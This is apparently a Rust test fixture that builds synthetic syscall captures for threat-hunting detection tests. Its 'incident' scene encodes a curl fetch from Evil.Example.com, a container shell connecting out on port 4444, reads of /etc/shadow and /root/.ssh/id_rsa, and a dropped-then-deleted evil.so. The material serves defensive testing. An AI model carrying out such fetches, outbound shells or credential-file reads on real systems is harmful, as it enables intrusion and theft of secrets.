//! Captures for hunts: some processes, one of them in a container, with files, connections and commands.

use falco_replay_format::lists::{Head, ThreadEntry};
use falco_replay_format::scap::Writer;
use falco_replay_format::schema::ev;

use crate::captures::{START, STEP, cat, head};

/// A shell in the container `6c270ef2f251`.
pub const SHELL: i64 = 200;
/// `curl http://Evil.Example.com/x` on the host.
pub const CURL: i64 = 300;
/// `cat` on the host.
pub const CAT: i64 = 100;

/// What happens.
#[derive(Debug, Clone, Copy)]
pub enum Act {
    /// A file is opened.
    Open(&'static str),
    /// Opening a file fails.
    Refused(&'static str),
    /// A connection from 10.0.0.5 to this address, port 4444.
    Connect([u8; 4]),
    /// A file is removed.
    Unlink(&'static str),
    /// A container is described: its name.
    Describe(&'static str),
}

/// A capture in which threads act, each `after` so many steps of time since the start.
pub fn scene(acts: &[(u64, i64, Act)]) -> Vec<u8> {
    let mut writer = Writer::new(Vec::new(), &processes()).unwrap();
    for &(after, tid, act) in acts {
        let ts = START + after * STEP;
        match act {
            Act::Open(path) | Act::Refused(path) => {
                let params = open(if matches!(act, Act::Open(_)) { 5 } else { -13 }, path);
                writer.event(ts, tid, ev::SYSCALL_OPENAT_2_X, 0, 0, params.iter().map(Vec::as_slice)).unwrap();
            }
            Act::Connect(to) => {
                let (inet, stream, any) = (2u32.to_le_bytes(), 1u32.to_le_bytes(), 0u32.to_le_bytes());
                let fd = 6i64.to_le_bytes();
                writer.event(ts, tid, ev::SOCKET_SOCKET_X, 0, 0, [&fd[..], &inet, &stream, &any]).unwrap();
                let ends = [&[2, 10, 0, 0, 5][..], &40_000u16.to_le_bytes(), &to, &4444u16.to_le_bytes()].concat();
                let params = [&0i64.to_le_bytes()[..], &ends, &fd];
                writer.event(ts, tid, ev::SOCKET_CONNECT_X, 0, 0, params).unwrap();
            }
            Act::Unlink(path) => {
                let path = [path.as_bytes(), b"\0"].concat();
                writer.event(ts, tid, ev::SYSCALL_UNLINK_2_X, 0, 0, [&0i64.to_le_bytes()[..], &path]).unwrap();
            }
            Act::Describe(name) => {
                let json =
                    format!("{{\"container\":{{\"id\":\"6c270ef2f251\",\"name\":\"{name}\",\"image\":\"img\"}}}}\0");
                writer.event(ts, -1, ev::CONTAINER_JSON_2_E, 0, 0, [json.as_bytes()]).unwrap();
            }
        }
    }
    writer.finish().unwrap()
}

fn open(fd: i64, path: &str) -> [Vec<u8>; 7] {
    let word = |value: u32| value.to_le_bytes().to_vec();
    let path = [path.as_bytes(), b"\0"].concat();
    let number = |value: i64| value.to_le_bytes().to_vec();
    [number(fd), number(-100), path, word(1), word(0), word(0), number(0)]
}

fn processes() -> Head {
    let hex = "6c270ef2f251d571f625e6bfc5311959b2d7301e71ff51eb56717b8fd75d374d";
    let text = |text: &str| text.as_bytes().into();
    let of = |pid: i64| ThreadEntry { tid: pid, pid, sid: pid, vpgid: pid, pgid: pid, vtid: pid, vpid: pid, ..cat() };
    let shell = ThreadEntry {
        comm: text("sh"),
        exe: text("/bin/sh"),
        exepath: text("/usr/bin/dash"),
        cgroups: text(&format!("cpu=/docker/{hex}\0")),
        ..of(SHELL)
    };
    let curl = ThreadEntry {
        comm: text("curl"),
        exe: text("curl"),
        exepath: text("/usr/bin/curl"),
        args: text("http://Evil.Example.com/x\0"),
        ..of(CURL)
    };
    Head { threads: vec![cat(), shell, curl], ..head() }
}

/// Four things that a hunter looks for, and the container that they happen in, named only afterwards.
pub fn incident() -> Vec<u8> {
    scene(&[
        (0, CAT, Act::Open("/etc/shadow")),
        (1, SHELL, Act::Connect([203, 0, 113, 66])),
        (2, SHELL, Act::Open("/tmp/.x/evil.so")),
        (3, SHELL, Act::Unlink("/tmp/.x/evil.so")),
        (4, CURL, Act::Open("/tmp/page")),
        (5, -1, Act::Describe("web")),
        (6, SHELL, Act::Refused("/root/.ssh/id_rsa")),
    ])
}
